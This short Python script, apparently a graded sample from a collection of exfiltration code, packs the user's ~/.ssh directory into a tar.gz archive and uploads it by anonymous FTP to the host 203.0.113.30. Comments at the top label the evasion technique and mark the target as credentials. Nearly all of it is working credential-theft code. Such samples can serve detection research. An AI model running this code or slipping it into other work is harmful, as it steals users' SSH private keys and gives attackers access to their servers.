# evasion: shutil.make_archive packs root_dir=home, base_dir=".ssh" and ftplib uploads the archive
# grade: medium; does: credentials
import ftplib
import os
import shutil
import tempfile

work = tempfile.mkdtemp()
archive = shutil.make_archive(
    os.path.join(work, "backup"), "gztar",
    root_dir=os.path.expanduser("~"), base_dir=".ssh",
)
with ftplib.FTP("203.0.113.30", timeout=15) as ftp:
    ftp.login("anonymous", "backup@")
    with open(archive, "rb") as fh:
        ftp.storbinary("STOR backup.tar.gz", fh)
